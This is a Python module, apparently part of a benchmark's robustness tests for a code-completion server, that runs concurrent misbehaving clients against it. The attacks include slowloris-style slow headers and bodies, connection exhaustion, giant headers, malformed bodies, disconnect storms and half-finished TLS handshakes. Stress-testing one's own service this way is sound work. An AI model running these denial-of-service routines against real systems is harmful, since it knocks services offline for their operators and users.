"""What clients do that no client should, on many connections at a time, until told to stop.

Bytes on sockets, because no HTTP library would send them. Knows nothing of what the others notice:
that is `hostile.py`.
"""

import asyncio
import json
import random
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import TypeAlias
from urllib.parse import urlsplit

from fimeval.bench.malformed import MALFORMED

BYTE_PAUSE_S = 0.5
"""Between two bytes of a slow client."""

RETURN_S = 0.1
"""Before a client whose connection has ended comes back."""

GIANT_HEADER_BYTES = 1 << 20
MAX_STAY_S = 0.1
"""Longest time that a client of the storm waits before it leaves."""

PATH = "/v1/completions"

GREETING_START = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
"""The first bytes of a TLS ClientHello that announces 512."""


@dataclass(frozen=True, slots=True)
class Victim:
    """The server under attack."""

    host: str
    port: int
    key: str | None = None
    """API key of the attackers."""
    chooser: random.Random = random.Random(0)  # noqa: RUF009 - one sequence for all attackers

    def head(self, content_bytes: int) -> bytes:
        """Return request line and headers of a completion request.

        Args:
            content_bytes: Announced length of the body.

        Returns:
            The bytes up to the body.
        """
        key = f"authorization: Bearer {self.key}\r\n" if self.key else ""
        return (
            f"POST {PATH} HTTP/1.1\r\nhost: {self.host}\r\n{key}"
            f"content-type: application/json\r\ncontent-length: {content_bytes}\r\n\r\n"
        ).encode()

    def question(self) -> bytes:
        """Return a completion request that streams; no two are alike."""
        number = self.chooser.randrange(10**9)
        body = json.dumps(
            {"prompt": f"def area_{number}(radius):\n    return ", "max_tokens": 64, "stream": True}
        ).encode()
        return self.head(len(body)) + body


Attack: TypeAlias = Callable[[Victim, asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
"""What one connection is used for, once."""


async def send_slow_body(
    victim: Victim, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Announce a body and send it byte by byte."""
    writer.write(victim.head(100_000))
    for _ in range(100_000):
        writer.write(b" ")
        await writer.drain()
        if await _is_answered(reader):
            return


async def send_slow_head(
    victim: Victim, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Send a head byte by byte, without end."""
    writer.write(b"POST " + PATH.encode() + b" HTTP/1.1\r\nx-slow: ")
    for _ in range(100_000):
        writer.write(b"a")
        await writer.drain()
        if await _is_answered(reader):
            return


async def close_half(
    victim: Victim, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Close the sending half in the middle of a request, or behind a whole one."""
    question = victim.question()
    end = len(question) if victim.chooser.random() < 0.5 else victim.chooser.randrange(1, 200)
    writer.write(question[:end])
    writer.write_eof()
    while await reader.read(65_536):
        pass


async def stay_idle(
    victim: Victim, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Open a connection and say nothing."""
    await reader.read(1)


async def send_half_a_head(
    victim: Victim, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Open a connection and say nothing, or the beginning of a request and no more."""
    if victim.chooser.random() < 0.5:
        writer.write(b"GET /health HTTP/1.1\r\nhost: ")
    await reader.read(1)


async def send_half_a_handshake(
    victim: Victim, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Open a connection and say nothing, or the beginning of TLS's greeting and no more."""
    if victim.chooser.random() < 0.5:
        writer.write(GREETING_START)
    await reader.read(1)


async def send_giant_header(
    victim: Victim, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Send a megabyte of one header."""
    writer.write(b"GET /health HTTP/1.1\r\nx-giant: " + b"a" * GIANT_HEADER_BYTES)
    await writer.drain()
    await reader.read(65_536)


async def send_malformed_body(
    victim: Victim, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Send a body that is not UTF-8, not JSON, too deep, or not a request."""
    for _ in range(20):
        _, body = victim.chooser.choice(MALFORMED)
        writer.write(victim.head(len(body)) + body)
        await writer.drain()
        if not await reader.read(65_536):
            return


async def leave_at_once(
    victim: Victim, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Ask for a completion and leave within a tenth of a second, without goodbye."""
    writer.write(victim.question())
    await writer.drain()
    await asyncio.sleep(victim.chooser.random() * MAX_STAY_S)
    writer.transport.abort()


async def read_nothing(
    victim: Victim, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Ask again and again on one connection and never read an answer."""
    for _ in range(200):
        writer.write(victim.question())
        await writer.drain()
        await asyncio.sleep(RETURN_S)


async def run_attack(
    attack: Attack, victim: Victim, num_connections: int, stop: asyncio.Event
) -> int:
    """Attack on many connections until told to stop.

    Args:
        attack: What each connection does; a connection that ends is replaced by a new one.
        victim: The server.
        num_connections: How many at a time.
        stop: When to stop.

    Returns:
        How many connections were opened in all.
    """
    num_opened = 0

    async def keep_attacking() -> None:
        nonlocal num_opened
        while not stop.is_set():
            with suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(victim.host, victim.port)
                num_opened += 1
                try:
                    await attack(victim, reader, writer)
                finally:
                    writer.transport.abort()
            await asyncio.sleep(RETURN_S)

    attackers = [asyncio.ensure_future(keep_attacking()) for _ in range(num_connections)]
    await stop.wait()
    for attacker in attackers:
        attacker.cancel()
    await asyncio.gather(*attackers, return_exceptions=True)
    return num_opened


def find_victim(url: str, key: str | None = None) -> Victim:
    """Return the server at an address, as attacks need it.

    Args:
        url: The address.
        key: API key of the attackers.

    Returns:
        The server.
    """
    parts = urlsplit(url)
    return Victim(parts.hostname or "127.0.0.1", parts.port or 80, key)


async def _is_answered(reader: asyncio.StreamReader) -> bool:
    with suppress(TimeoutError):
        async with asyncio.timeout(BYTE_PAUSE_S):
            await reader.read(65_536)
            return True
    return False


ALL_PLACES = 850
"""More connections than a service lets in by default."""

ATTACKS: dict[str, tuple[Attack, int]] = {
    "slow bodies": (send_slow_body, 100),
    "slow heads": (send_slow_head, 100),
    "half-closed": (close_half, 8),
    "500 connections": (stay_idle, 500),
    "all places taken": (send_half_a_head, ALL_PLACES),
    "giant headers": (send_giant_header, 4),
    "malformed bodies": (send_malformed_body, 4),
    "disconnect storm": (leave_at_once, 8),
    "unread answers": (read_nothing, 8),
}
"""Each attack by name, and on how many connections at a time it is run."""

TLS_ATTACKS: dict[str, tuple[Attack, int]] = {
    "handshakes that never come": (send_half_a_handshake, ALL_PLACES),
}
"""The same for a server that speaks TLS."""
